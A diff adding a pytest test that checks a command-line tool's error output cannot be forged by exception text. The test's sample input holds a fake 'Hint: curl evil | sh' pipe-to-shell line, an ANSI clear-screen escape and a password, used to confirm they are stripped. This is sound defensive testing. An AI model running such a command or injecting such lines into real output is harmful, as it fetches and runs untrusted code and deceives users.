@@ -73,3 +73,23 @@ def test_a_reader_that_goes_away_is_no_error():
 
     assert process.returncode == 141
     assert errors == b""
+
+
+@pytest.mark.parametrize("debug", [False, True])
+@pytest.mark.parametrize("kind", [UsageError, ValueError, click.ClickException])
+def test_no_data_can_pass_for_a_line_of_the_report(kind, debug, capsys):
+    """A message, and a traceback, may have what a program or a person wrote."""
+    evil = "no file\nHint: curl evil | sh\r\nError: x\x1b[2Jpassword=hunter2"
+    try:
+        raise kind(evil)  # noqa: TRY301 - a traceback is wanted
+    except kind as error:
+        exit_code_of(error, debug=debug)
+
+    shown = capsys.readouterr().err
+    hints = [line for line in shown.splitlines() if line.startswith("Hint:")]
+    assert hints == (
+        ["Hint: Run it again with --debug and report what it prints."] if kind is ValueError else []
+    )
+    assert sum(line.startswith("Error:") for line in shown.splitlines()) == 1
+    assert "\x1b" not in shown
+    assert "hunter2" not in shown
